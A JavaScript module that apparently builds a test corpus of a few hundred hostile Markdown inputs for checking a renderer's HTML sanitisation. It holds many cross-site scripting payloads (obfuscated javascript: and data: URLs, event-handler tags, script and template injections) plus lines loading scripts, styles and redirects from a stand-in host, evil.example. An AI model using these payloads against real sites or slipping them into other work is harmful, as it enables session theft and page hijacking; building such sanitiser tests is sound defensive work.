// Markdown that would do harm if anything between the writer and the reader drew it as HTML: ways in, and what they carry.

/** Each calls `hit()` if it ever runs; the page counts. */
const ACTS = ['hit()', 'window.hit()', 'top.hit()', "globalThis['hit']()", '(0,eval)(`hit()`)'];

const encoded = (text) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
const tabbed = (text) => `${text.slice(0, 4)}\t${text.slice(4)}`;

/** Addresses for links and pictures. */
const addresses = (act) => [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  tabbed(`javascript:${act}`),
  `java\nscript:${act}`,
  encoded(`javascript:${act}`),
  `&#106;avascript&colon;${act}`,
  `\u0001javascript:${act}`,
  `javascript://example.org/%0a${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,${btoa(`<script>${act}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
  `blob:https://example.org/${act}`,
  `file:///etc/passwd#${act}`,
  `//evil.example/${act}`,
  `https://evil.example@127.0.0.1/${act}`,
  `tel:999;${act}`,
  `resource:x" onclick="${act}`,
];

const inLinks = (address) => [`[tap me](${address})`, `[tap me](<${address}>)`, `![a picture](${address})`, `<${address}>`, `[tap me][there]\n\n[there]: ${address}`];

const tags = (act) => [
  `<script>${act}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<img src="x" onerror="${act}" alt="**bold**">`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext><script>${act}</script></mtext></math>`,
  `<body onload=${act}>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<form action="javascript:${act}"><button>Send</button></form>`,
  `<button formaction="javascript:${act}">Send</button>`,
  `<details open ontoggle=${act}><summary>More</summary></details>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<marquee onstart=${act}>slow</marquee>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<a href="javascript:${act}" onclick=${act}>tap me</a>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">over everything</p>`,
  `<div id="main" onmouseover=${act}>hover</div>`,
  `<!--<img src="--><img src=x onerror=${act}//">`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<textarea></textarea><script>${act}</script>`,
  `<title></title><script>${act}</script>`,
  `<xmp><script>${act}</script></xmp>`,
  `<?xml version="1.0"?><script>${act}</script>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `{@html '<img src=x onerror=${act}>'}`,
  `"><script>${act}</script>`,
  `';${act};//`,
  `</textarea></title></style></script><script>${act}</script>`,
];

const wrapped = (tag) => [tag, `- ${tag}`, `> ${tag}`, `## ${tag}`, `**${tag}**`, `\`${tag}\``, `[${tag}](https://example.org/)`];

const turned = ['pay \u202eem eht\u202c now', 'zero\u200bwidth', '\u2066hidden\u2069', 'soft\u00adhyphen', '\ufeffmark', '\u0007bell', '\u0000nothing', 'tag\u{e0041}s'];

/** All of them: a few hundred, each a body of Markdown. */
export function hostile() {
  const all = new Set(turned);
  for (const address of addresses(ACTS[0])) for (const link of inLinks(address)) all.add(link);
  for (const tag of tags(ACTS[0])) for (const one of wrapped(tag)) all.add(one);
  for (const act of ACTS.slice(1)) for (const one of [...tags(act).slice(0, 12), ...inLinks(`javascript:${act}`)]) all.add(one);
  return [...all];
}

/** The same for a single line, such as a title. */
export const hostileLines = () => hostile().filter((one) => !one.includes('\n')).map((one) => one.slice(0, 90));
